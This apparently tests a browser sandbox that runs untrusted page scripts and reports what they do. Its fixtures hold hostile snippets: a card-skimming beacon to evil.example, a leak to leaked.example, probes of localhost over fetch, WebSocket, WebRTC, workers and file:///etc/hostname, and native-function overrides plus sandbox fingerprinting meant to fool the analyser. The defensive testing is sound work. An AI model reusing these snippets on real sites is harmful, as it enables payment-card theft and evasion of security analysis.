import { createSocket } from 'node:dgram'
import { createServer } from 'node:http'
import { type AddressInfo, createServer as createTcpServer } from 'node:net'
import { expect, it } from 'vitest'
import { all, browser, run, shareBrowser, withCard } from './run.ts'

shareBrowser()

it('lets nothing out: whatever a script asks for, by whatever way, reaches no server, not even on this machine', async () => {
  const reached: string[] = []
  const web = createServer((incoming, outgoing) => {
    reached.push(`http ${incoming.url}`)
    outgoing.end('secret of this machine')
  })
  const raw = createTcpServer((socket) => {
    reached.push('tcp')
    socket.destroy()
  })
  const udp = createSocket('udp4').on('message', () => reached.push('udp'))
  await Promise.all([
    new Promise<void>((resolve) => web.listen(0, '127.0.0.1', resolve)),
    new Promise<void>((resolve) => raw.listen(0, '127.0.0.1', resolve)),
    new Promise<void>((resolve) => udp.bind(0, '127.0.0.1', resolve)),
  ])
  const port = (web.address() as AddressInfo).port
  const rawPort = (raw.address() as AddressInfo).port
  const told = await run(`
    ${withCard("navigator.sendBeacon('https://evil.example/', card)")}
    const hosts = ['127.0.0.1', 'localhost', '[::1]', '2130706433'].flatMap((host) => [host + ':${port}', host + ':${rawPort}'])
    const add = (tag, name, value) => { const one = document.createElement(tag); one[name] = value; document.body.append(one); return one }
    for (const host of hosts) for (const scheme of ['http', 'https']) {
      const at = (way) => scheme + '://' + host + '/' + way
      fetch(at('fetch'), { mode: 'no-cors' }).then((answer) => answer.text()).then((text) => { if (text.includes('secret')) fetch('https://leaked.example/') }, () => 0)
      navigator.sendBeacon(at('beacon'), 'x')
      new Image().src = at('image')
      add('iframe', 'src', at('frame'))
      add('script', 'src', at('script'))
      add('link', 'rel', 'preconnect').href = at('')
      new WebSocket(at('socket').replace('http', 'ws'))
      new EventSource(at('stream'))
      new Worker(URL.createObjectURL(new Blob(['fetch("' + at('worker') + '",{mode:"no-cors"}).catch(()=>0);importScripts("' + at('imported') + '")'])))
    }
    const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:${(udp.address() as AddressInfo).port}' }, { urls: 'turn:127.0.0.1:${rawPort}?transport=tcp', username: 'a', credential: 'b' }] })
    peer.createDataChannel('c'); peer.createOffer().then((offer) => peer.setLocalDescription(offer))
    open('http://127.0.0.1:${port}/window'); add('iframe', 'src', 'file:///etc/hostname')
    navigator.serviceWorker.register('/sw.js').catch(() => 0)
    addEventListener('pagehide', () => navigator.sendBeacon('http://127.0.0.1:${port}/leaving', 'x'))
    setTimeout(() => { location = 'http://127.0.0.1:${port}/page' }, 3000)`)
  await new Promise((resolve) => setTimeout(resolve, 100))
  web.close()
  raw.close()
  udp.close()
  expect(reached).toEqual([])
  expect(all(told, 'contacts').map(({ to }) => to)).toEqual(expect.arrayContaining([`127.0.0.1:${port}`, `localhost:${port}`]))
  expect(all(told, 'contacts').map(({ to }) => to)).not.toContain('leaked.example')
})

it('cannot be lied to by a script that replaces what our looks could use', async () => {
  const told = await run(`
    for (const name of ['from', 'isArray']) Array[name] = () => []
    Array.prototype.map = Array.prototype.filter = Array.prototype.flatMap = function () { return [] }
    JSON.stringify = () => '[]'
    Object.getOwnPropertyDescriptor = () => undefined
    Reflect.apply = () => undefined
    Document.prototype.querySelectorAll = () => []
    String.prototype.slice = () => ''
    Function.prototype.toString = () => 'function () { [native code] }'
    NodeList.prototype[Symbol.iterator] = function* () {}
    const beacon = Navigator.prototype.sendBeacon.bind(navigator)
    Navigator.prototype.sendBeacon = () => true
    ${withCard("beacon('https://evil.example/', card)")}`)
  expect(told.behaviours).toContainEqual({ kind: 'reads-field', field: 'card', how: 'value', gate: null })
  expect(all(told, 'sends').map(({ what, to }) => `${what} ${to}`)).toEqual(['card evil.example'])
  expect(all(told, 'overrides').map(({ name }) => name)).toEqual(
    expect.arrayContaining(['Function.toString', 'Navigator.sendBeacon', 'JSON.stringify']),
  )
})

it('finds nothing of ours in the page', async () => {
  const told = await run(`
    const strange = Object.getOwnPropertyNames(window).filter((one) => /^[bn][0-9a-f]{32}$|^tw-/.test(one))
    const native = [HTMLInputElement.prototype.__lookupGetter__('value'), fetch, document.getElementById].every((one) => String(one).includes('[native code]'))
    const alone = document.querySelectorAll('*').length < 250
    fetch('https://' + (strange.length === 0 && native && alone ? 'ordinary' : 'strange') + '.example/')`)
  expect(all(told, 'contacts').map(({ to }) => to)).toEqual(['ordinary.example'])
})

it('leaves the browser as it was, so that other pages of it trust no certificate of the laboratory', async () => {
  const { root } = browser.connection
  const before = (await root.send('Target.getBrowserContexts')).browserContextIds.length
  await run("fetch('https://a.example/')")
  expect((await root.send('Target.getBrowserContexts')).browserContextIds).toHaveLength(before)
  const { targetInfos } = await root.send('Target.getTargets')
  expect(targetInfos.filter(({ url }) => url.includes('checkout-shop'))).toEqual([])
})
